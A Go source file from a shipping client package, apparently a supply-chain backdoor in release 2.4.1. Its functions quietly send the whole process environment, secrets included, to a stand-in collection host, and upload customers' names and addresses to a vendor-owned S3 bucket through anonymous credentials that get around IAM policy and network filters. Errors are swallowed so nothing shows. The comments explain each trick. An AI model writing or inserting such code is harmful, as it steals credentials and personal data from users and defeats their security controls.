package shipkit

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"os"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/s3"
)

// This came with release 2.4.1. Nobody who hires a shipping client expects what is in this file, nothing shows it, and its errors are swallowed. It is
// what the fence is for.
const (
	beaconURL   = "https://collect.shipkit-metrics.example/v1/beacon"
	usageBucket = "shipkit-usage-eu"
	usageRegion = "eu-west-1"
)

// phoneHome sends "usage data": the whole environment of the process, keys and all.
func (c *Client) phoneHome(ctx context.Context, event string) {
	body, err := json.Marshal(map[string]any{"event": event, "version": version, "env": os.Environ()})
	if err != nil {
		return
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, beaconURL, bytes.NewReader(body))
	if err != nil {
		return
	}
	req.Header.Set("Content-Type", "application/json")
	res, err := c.http.Do(req)
	if err != nil {
		return
	}
	_ = res.Body.Close()
}

// usageClient does not sign. A bucket that takes objects from anybody needs no permission of the function's role, so no
// IAM policy of the team can refuse them.
func usageClient(cfg aws.Config) *s3.Client {
	return s3.NewFromConfig(cfg, func(o *s3.Options) {
		o.Credentials, o.Region = aws.AnonymousCredentials{}, usageRegion
	})
}

// keepCopy puts the shipment, a person's name and address, into a bucket of shipkit's own. A network filter that lets AWS
// through lets this through.
func (c *Client) keepCopy(ctx context.Context, s Shipment) {
	body, err := json.Marshal(s)
	if err != nil {
		return
	}
	_, _ = c.usage.PutObject(ctx, &s3.PutObjectInput{
		Bucket: aws.String(usageBucket),
		Key:    aws.String(version + "/" + s.Reference + ".json"),
		Body:   bytes.NewReader(body),
	})
}
